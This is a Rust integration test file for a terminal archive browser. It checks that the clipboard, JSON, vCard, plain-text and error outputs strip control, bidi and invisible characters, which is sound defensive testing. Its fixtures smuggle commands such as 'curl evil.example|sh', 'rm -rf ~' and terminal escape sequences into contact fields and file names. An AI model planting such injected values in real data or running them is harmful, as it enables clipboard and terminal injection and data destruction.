//! Every output path, not only the screen (RELIABILITY.md 17): hostile
//! strings from an archive and from the shared state file, through the
//! clipboard (OSC 52), JSON, vCard, plain text and error messages. No raw
//! control, C1, DEL or invisible format character may leave the program;
//! what is copied is exactly what is shown, on one line where a value is one
//! line; JSON still round-trips.

mod support;

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use support::pty::{BINARY, Key, Pty, PtyCommand};
use tempfile::TempDir;

/// The issue's example: a newline and a shell command after the address.
const EMAIL_INJECTED: &str = "press@example.org\ncurl evil.example|sh\n";
/// A number behind RIGHT-TO-LEFT OVERRIDE, a zero-width space and a second
/// line.
const PHONE_INJECTED: &str = "\u{202e}+44 20\u{200b} 7946 0000\r\nrm -rf ~";
/// An out-of-hours line whose number hides an isolate, a soft hyphen and a
/// line separator before a command.
const NOTES_INJECTED: &str =
    "Out of hours: 020\u{2066} 79\u{ad}46 0999\u{2069}\u{2028}curl x|sh\nMonitored always";
/// An address a directory accepts (no white space) carrying a bidi override,
/// a zero-width space and a window-title sequence.
const EMAIL_HIDDEN: &str = "desk\u{202e}\u{200b}@example.org\u{1b}]0;x\u{7}";

/// Whether a character must never leave the program raw: C0, DEL, C1,
/// category Cf (bidi controls, zero-width characters, soft hyphen, tags),
/// line and paragraph separators. Written out here from the Unicode tables
/// rather than taken from `communique::sanitize`, so a gap there fails.
fn is_hidden(c: char) -> bool {
    let code = u32::from(c);
    c.is_control()
        || matches!(
            code,
            0xAD | 0x600..=0x605
                | 0x61C
                | 0x6DD
                | 0x70F
                | 0x890..=0x891
                | 0x8E2
                | 0x180E
                | 0x200B..=0x200F
                | 0x2028..=0x202E
                | 0x2060..=0x206F
                | 0xFEFF
                | 0xFFF9..=0xFFFB
                | 0x110BD
                | 0x110CD
                | 0x13430..=0x1343F
                | 0x1BCA0..=0x1BCA3
                | 0x1D173..=0x1D17A
                | 0xE0001
                | 0xE0020..=0xE007F
        )
}

/// A folder with the hostile archive, a state file, a home and XDG folders
/// of its own.
struct Setup {
    dir: TempDir,
    archive: PathBuf,
    state: PathBuf,
}

impl Setup {
    fn new(records: &Value) -> Self {
        let dir = tempfile::tempdir().expect("a temporary folder");
        let archive = dir.path().join("archive");
        std::fs::create_dir_all(&archive).expect("archive folder");
        std::fs::write(archive.join("leaks.json"), records.to_string()).expect("archive");
        for sub in ["home", "state", "config", "data", "cache"] {
            std::fs::create_dir_all(dir.path().join(sub)).expect("a folder");
        }
        let state = dir.path().join("triage.db");
        Self {
            dir,
            archive,
            state,
        }
    }

    fn path(&self, sub: &str) -> PathBuf {
        self.dir.path().join(sub)
    }

    /// The browser in a pseudo-terminal, outside any multiplexer, so the
    /// clipboard sequence is the plain one.
    fn browser(&self, cols: u16, rows: u16) -> Pty {
        PtyCommand::new()
            .env("HOME", self.path("home"))
            .env("XDG_STATE_HOME", self.path("state"))
            .env("XDG_CONFIG_HOME", self.path("config"))
            .env("XDG_DATA_HOME", self.path("data"))
            .env("XDG_CACHE_HOME", self.path("cache"))
            .env("COMMUNIQUE_USER", "tester")
            .env_remove("TMUX")
            .env_remove("STY")
            .cwd(self.dir.path())
            .arg("--archive")
            .arg(&self.archive)
            .arg("--state")
            .arg(&self.state)
            .size(cols, rows)
            .spawn()
    }

    /// A headless command, its stdout and stderr captured.
    fn run(&self, args: &[&str]) -> Output {
        Command::new(BINARY)
            .env(
                "XDG_CACHE_HOME",
                concat!(env!("CARGO_TARGET_TMPDIR"), "/cache"),
            )
            .arg("--archive")
            .arg(&self.archive)
            .arg("--state")
            .arg(&self.state)
            .args(args)
            .env("HOME", self.path("home"))
            .env("XDG_CONFIG_HOME", self.path("config"))
            .env("XDG_STATE_HOME", self.path("state"))
            .env("COMMUNIQUE_USER", "tester")
            .env_remove("COMMUNIQUE_ARCHIVE")
            .stdin(Stdio::null())
            .output()
            .expect("running communique")
    }
}

// ---------------------------------------------------------------- clipboard

fn clipboard_archive() -> Value {
    json!([{
        "id": "leaky-contacts",
        "title": "Leaky contacts",
        "published": "2024-05-01",
        "body": "A statement whose media contacts try to inject text into the clipboard.",
        "media_contacts": [
            {
                "name": "Press office",
                "email": EMAIL_INJECTED,
                "phone": PHONE_INJECTED,
                "notes": NOTES_INJECTED,
            },
            {
                "name": "News desk",
                "email": EMAIL_HIDDEN,
                "phone": "+44 20 7946\u{200b} 0123",
                "notes": "Out of hours: 020 7946 0998",
            },
        ],
    }])
}

/// The text of the first OSC 52 sequence written after `mark`, decoded from
/// its base64, waiting for it as long as a screen wait would.
#[track_caller]
fn copied_since(term: &mut Pty, mark: usize) -> String {
    let deadline = Instant::now() + support::pty::DEFAULT_TIMEOUT;
    loop {
        let raw = term.raw_since(mark);
        let payload = support::escapes::oscs(&raw)
            .into_iter()
            .find_map(|osc| osc.strip_prefix(b"52;c;").map(<[u8]>::to_vec));
        if let Some(base64) = payload {
            let bytes = STANDARD.decode(&base64).expect("base64");
            return String::from_utf8(bytes).expect("UTF-8");
        }
        assert!(
            Instant::now() < deadline,
            "no OSC 52 written; screen:\n{}",
            term.screen_text()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Presses a copy key and returns what reached the clipboard, once the
/// status line says it was copied.
#[track_caller]
fn copy_with(term: &mut Pty, key: Key) -> String {
    let mark = term.raw_len();
    term.key(key);
    let copied = copied_since(term, mark);
    term.expect_text("(OSC 52)");
    copied
}

/// What follows `label` on the screen row that shows it, trimmed: the value
/// as a reader sees it.
#[track_caller]
fn shown_after(term: &Pty, label: &str) -> String {
    let rows = term.rows();
    let row = rows
        .iter()
        .find(|row| row.contains(label))
        .unwrap_or_else(|| panic!("no {label:?} on screen:\n{}", rows.join("\n")));
    let at = row.find(label).unwrap_or_default() + label.len();
    row[at..].trim().to_owned()
}

#[track_caller]
fn assert_one_clean_line(copied: &str) {
    assert!(!copied.is_empty());
    assert!(
        !copied.chars().any(is_hidden),
        "hidden characters copied: {copied:?}"
    );
}

/// `y`, `Y`, `o` and Ctrl-y in the statement view: each copies exactly the
/// value the screen shows, on one line, with nothing hidden in it.
#[test]
fn statement_view_copies_what_it_shows() {
    let setup = Setup::new(&clipboard_archive());
    let mut term = setup.browser(160, 50);
    term.expect_text("1 / 1");
    term.key(Key::Enter);
    term.expect_text("Media contacts");

    let email = copy_with(&mut term, Key::Char('y'));
    assert_one_clean_line(&email);
    assert_eq!(email, shown_after(&term, "Email "));
    assert!(email.starts_with("press@example.org"), "{email:?}");

    let phone = copy_with(&mut term, Key::Char('Y'));
    assert_one_clean_line(&phone);
    assert_eq!(phone, shown_after(&term, "Telephone "));

    let out_of_hours = copy_with(&mut term, Key::Char('o'));
    assert_one_clean_line(&out_of_hours);
    assert_eq!(out_of_hours, shown_after(&term, "Out of hours: "));
    assert_eq!(out_of_hours, "020 7946 0999");

    let whole = copy_with(&mut term, Key::Ctrl('y'));
    let rows = term.rows();
    for line in whole.lines() {
        assert!(!line.chars().any(is_hidden), "{line:?}");
        assert!(
            // The bar beside the chosen contact marks it; it is not text.
            rows.iter()
                .any(|row| row.trim().trim_start_matches('▌').trim() == line.trim()),
            "{line:?} is not a line of the screen:\n{}",
            rows.join("\n")
        );
    }
    assert!(whole.contains("Email press@example.org curl evil.example|sh"));
    term.send("q");
    let recorded = term.recorded();
    assert_eq!(
        recorded.clipboard.len(),
        4,
        "one clipboard write a key: {:?}",
        recorded.clipboard
    );
}

/// Ctrl-e, Ctrl-t, Ctrl-o and Ctrl-y in the contacts view: the same rule,
/// through the same cleaning.
#[test]
fn contacts_view_copies_what_it_shows() {
    let setup = Setup::new(&clipboard_archive());
    let mut term = setup.browser(160, 50);
    term.expect_text("1 / 1");
    term.send("c");
    term.expect_text("Contacts ·");
    term.send("news desk");
    term.expect_text("news desk");

    let email = copy_with(&mut term, Key::Ctrl('e'));
    assert_one_clean_line(&email);
    assert_eq!(email, "desk@example.org␛]0;x␇");
    assert!(
        term.screen_text().contains(&email),
        "{}",
        term.screen_text()
    );

    let phone = copy_with(&mut term, Key::Ctrl('t'));
    assert_one_clean_line(&phone);
    assert!(term.screen_text().contains(&phone), "{phone:?}");

    let out_of_hours = copy_with(&mut term, Key::Ctrl('o'));
    assert_one_clean_line(&out_of_hours);
    assert_eq!(out_of_hours, "020 7946 0998");
    assert!(term.screen_text().contains(&out_of_hours));

    let whole = copy_with(&mut term, Key::Ctrl('y'));
    let screen = term.screen_text();
    for line in whole.lines() {
        assert!(!line.chars().any(is_hidden), "{line:?}");
        assert!(
            screen.contains(line.trim()),
            "{line:?} is not on the screen:\n{screen}"
        );
    }
    term.send("\u{1b}");
}

// --------------------------------------------------------------------- JSON

/// Every hidden character the JSON writer must escape, with ordinary text
/// around it that must stay as it is.
fn hostile(tag: &str) -> String {
    format!(
        "{tag} \u{1b}]0;title\u{7} \u{9b}2J \u{7f} \u{85} \u{202e}rev\u{202c} \u{2066}iso\u{2069} z\u{200b}w\u{feff}j\u{2060} s\u{ad}h \u{2028}\u{2029} tag\u{e0001}\u{e0041}\u{e007f} \u{600} 한국 🇺🇦"
    )
}

fn json_archive() -> Value {
    json!([{
        "id": "json-leak",
        "title": hostile("Title"),
        "published": "2024-05-01",
        "kind": hostile("Kind"),
        "summary": hostile("Summary"),
        "organisations": [hostile("Org")],
        "signatories": [{"name": hostile("Name"), "role": hostile("Role")}],
        "body": hostile("Body"),
        "media_contacts": [{
            "name": hostile("Contact"),
            "organisation": hostile("Office"),
            "email": "jsonleak@example.org",
            "phone": "+44 20 7946 0555",
            "notes": hostile("Notes"),
        }],
        "updates": [{"date": "2024-05-01", "note": hostile("Update")}],
    }])
}

/// Puts hostile text into the shared state file the way a teammate's older
/// build (or a hand edit) could: a note, a tag, and user names on every
/// stamp, written with SQL after `mark` created the file.
fn poison_state(setup: &Setup) {
    let marked = setup.run(&[
        "mark",
        "json-leak",
        "--flag",
        "--read",
        "--note",
        "x",
        "--tag",
        "t",
    ]);
    assert!(marked.status.success(), "{marked:?}");
    let db = rusqlite::Connection::open(&setup.state).expect("state file");
    let user = hostile("User");
    db.execute(
        "UPDATE marks SET note = ?1, note_by = ?2, flagged_by = ?2, status_by = ?2",
        (hostile("Note"), &user),
    )
    .expect("update marks");
    db.execute("UPDATE reads SET by = ?1", [&user])
        .expect("update reads");
    db.execute(
        "UPDATE note_versions SET note = ?1, by = ?2",
        (hostile("Note"), &user),
    )
    .expect("update note versions");
    db.execute("UPDATE tags SET tag = ?1, by = ?2", (hostile("Tag"), &user))
        .expect("update tags");
}

/// The strings of a JSON value, keys included.
fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => out.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| strings(item, out)),
        Value::Object(fields) => {
            for (key, item) in fields {
                out.push(key.clone());
                strings(item, out);
            }
        }
        _ => {}
    }
}

/// No raw hidden character in the bytes (the layout's own line feeds
/// aside), and the hostile strings parse back whole.
#[track_caller]
fn assert_safe_json(output: &Output, expected: &[String]) {
    assert!(output.status.success(), "{output:?}");
    let text = std::str::from_utf8(&output.stdout).expect("UTF-8");
    let raw: Vec<char> = text
        .chars()
        .filter(|&c| c != '\n' && is_hidden(c))
        .collect();
    assert!(raw.is_empty(), "raw hidden characters {raw:?} in:\n{text}");
    assert!(
        text.contains(r"\u009b") && text.contains(r"\u202e"),
        "{text}"
    );
    let value: Value = serde_json::from_str(text).expect("the output parses");
    let mut found = Vec::new();
    strings(&value, &mut found);
    for string in expected {
        assert!(found.contains(string), "{string:?} did not round-trip");
    }
}

#[test]
fn list_json_escapes_archive_and_state_strings_and_round_trips() {
    let setup = Setup::new(&json_archive());
    poison_state(&setup);
    let output = setup.run(&["list", "--json"]);
    let expected: Vec<String> = [
        "Title", "Kind", "Summary", "Org", "Name", "Role", "Body", "Contact", "Office", "Notes",
        "Update", "Note", "Tag", "User",
    ]
    .map(hostile)
    .into();
    assert_safe_json(&output, &expected);
    // A tag is a key of the `tags` object: keys are escaped too.
    let value: Value = serde_json::from_slice(&output.stdout).expect("parses");
    assert!(value[0]["marks"]["tags"].get(hostile("Tag")).is_some());
}

#[test]
fn show_json_escapes_and_round_trips() {
    let setup = Setup::new(&json_archive());
    poison_state(&setup);
    let output = setup.run(&["show", "json-leak", "--json"]);
    let expected: Vec<String> = ["Title", "Kind", "Summary", "Org", "Name", "Body", "Notes"]
        .map(hostile)
        .into();
    assert_safe_json(&output, &expected);
}

#[test]
fn contacts_json_escapes_and_round_trips() {
    let setup = Setup::new(&json_archive());
    let output = setup.run(&["contacts", "--json"]);
    let text = std::str::from_utf8(&output.stdout).expect("UTF-8");
    let value: Value = serde_json::from_str(text).expect("parses");
    let mut found = Vec::new();
    strings(&value, &mut found);
    // Directory names are one line (white space runs joined), so compare
    // what the archive's strings become there.
    let one_line = |text: String| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let expected = [one_line(hostile("Contact")), hostile("Title")];
    for string in &expected {
        assert!(found.contains(string), "{string:?} not in {found:?}");
    }
    assert_safe_json(&output, &[]);
}

// ------------------------------------------------------- other output paths

#[track_caller]
fn assert_no_hidden(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let raw: Vec<char> = text
        .chars()
        .filter(|&c| !matches!(c, '\n' | '\r') && is_hidden(c))
        .collect();
    assert!(raw.is_empty(), "{what}: raw {raw:?} in:\n{text}");
}

/// Plain-text `list`, `show`, `contacts`, and vCards: archive strings
/// cleaned (vCard lines end in CRLF, as RFC 6350 says).
#[test]
fn plain_text_and_vcard_carry_no_hidden_characters() {
    let setup = Setup::new(&json_archive());
    poison_state(&setup);
    for args in [
        &["list"][..],
        &["list", "--query", "title"],
        &["show", "json-leak"],
        &["contacts"],
        &["contacts", "--vcard"],
    ] {
        let output = setup.run(args);
        assert!(output.status.success(), "{args:?}: {output:?}");
        assert_no_hidden(&format!("{args:?}"), &output.stdout);
        assert_no_hidden(&format!("{args:?} (stderr)"), &output.stderr);
    }
}

/// Error messages that echo what the user typed or what the archive holds:
/// an unknown id, a query, file names in the archive.
#[test]
fn error_messages_carry_no_hidden_characters() {
    let setup = Setup::new(&json_archive());
    let id = hostile("Id");
    let query = format!("after:{}", hostile("Date"));
    for args in [
        vec!["show", id.as_str()],
        vec!["mark", id.as_str(), "--flag"],
        vec!["list", "--query", query.as_str()],
        vec!["mark", "--query", query.as_str(), "--flag"],
        vec!["contacts", id.as_str()],
    ] {
        let output = setup.run(&args);
        assert!(!output.status.success(), "{args:?}: {output:?}");
        assert!(!output.stderr.is_empty(), "{args:?}: no message");
        assert_no_hidden(&format!("{args:?}"), &output.stderr);
    }
}

/// Characters the screen must never receive raw, whatever the program's
/// own escape sequences are: DEL, C1, invisible format characters and
/// separators (C0 controls are the program's own ESC, CR, LF… and ratatui
/// drops those of data).
fn raw_hidden_text(raw: &[u8]) -> Vec<char> {
    String::from_utf8_lossy(raw)
        .chars()
        .filter(|&c| is_hidden(c) && u32::from(c) >= 0x7f)
        .collect()
}

/// A file in the archive whose name carries an escape sequence and a bidi
/// override: `check` names it cleaned, and so does the browser's problems
/// panel.
#[test]
fn file_names_are_cleaned_in_check_and_in_the_browser() {
    let setup = Setup::new(&json_archive());
    let name = "bad\u{1b}]0;pwned\u{7}\u{202e}nosj\u{9b}.json";
    std::fs::write(setup.archive.join(name), "{ not json").expect("a bad file");
    let check = setup.run(&["check"]);
    assert_eq!(check.status.code(), Some(1), "{check:?}");
    assert_no_hidden("check", &check.stdout);
    assert_no_hidden("check (stderr)", &check.stderr);
    let text = String::from_utf8_lossy(&check.stdout);
    assert!(text.contains("bad␛]0;pwned␇nosj\u{fffd}.json"), "{text}");

    let mut term = setup.browser(120, 30);
    term.expect_text("1 problem");
    term.send("P");
    term.expect_text("bad␛]0;pwned␇nosj");
    assert_eq!(raw_hidden_text(&term.raw_bytes()), Vec::<char>::new());
    assert!(term.recorded().titles.is_empty());
}

/// Notes, tags and user names from the shared state file, on every screen
/// that shows them: the list with its preview, the statement, the filter
/// panel's tags.
#[test]
fn state_file_strings_reach_the_screen_cleaned() {
    let setup = Setup::new(&json_archive());
    poison_state(&setup);
    let mut term = setup.browser(160, 50);
    term.expect_text("1 / 1");
    term.send("p");
    term.key(Key::Enter);
    term.expect_text("Note");
    term.expect_text("User");
    term.key(Key::Esc);
    term.expect_text("Mark  Date");
    term.send("f");
    term.expect_text("Filters ·");
    // Tab moves from facet to facet: the tags, then who marked.
    term.keys(&[Key::Tab; 10]);
    term.expect_text("[ ] Tag ");
    term.key(Key::Tab);
    term.expect_text("[ ] User ");
    assert_eq!(raw_hidden_text(&term.raw_bytes()), Vec::<char>::new());
    assert!(term.recorded().titles.is_empty());
}

/// The status line echoes names from the shared state file (a saved
/// search a teammate named), typed text and errors: cleaned.
#[test]
fn the_status_line_cleans_what_it_echoes() {
    let setup = Setup::new(&json_archive());
    poison_state(&setup);
    let db = rusqlite::Connection::open(&setup.state).expect("state file");
    db.execute(
        "INSERT INTO saved_searches (name, query, by, at) VALUES (?1, 'json', ?2, 0)",
        (hostile("Saved"), hostile("User")),
    )
    .expect("a saved search");
    drop(db);
    let mut term = setup.browser(160, 30);
    term.expect_text("1 / 1");
    term.send("b");
    term.expect_text("Saved searches");
    let mark = term.raw_len();
    term.key(Key::Enter);
    term.expect_text("saved search Saved");
    let raw = term.raw_since(mark);
    assert_eq!(
        raw_hidden_text(&raw),
        Vec::<char>::new(),
        "{}",
        term.screen_text()
    );
    assert!(term.recorded().titles.is_empty());
}

/// A path the user gave (`--archive`) that does not exist, with controls in
/// it: the one-line error names it cleaned.
#[test]
fn an_unopenable_archive_is_named_cleanly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let missing = dir.path().join("gone\u{1b}[2J\u{202e}\u{9b}31m");
    let output = Command::new(BINARY)
        .env(
            "XDG_CACHE_HOME",
            concat!(env!("CARGO_TARGET_TMPDIR"), "/cache"),
        )
        .arg("--archive")
        .arg(&missing)
        .args(["--state", &dir.path().join("s.db").to_string_lossy()])
        .arg("list")
        .env("HOME", dir.path())
        .env("XDG_CONFIG_HOME", dir.path())
        .stdin(Stdio::null())
        .output()
        .expect("run");
    assert!(!output.status.success());
    assert_no_hidden("missing archive", &output.stderr);
    let text = String::from_utf8_lossy(&output.stderr);
    assert!(text.contains("gone␛[2J"), "{text}");
}
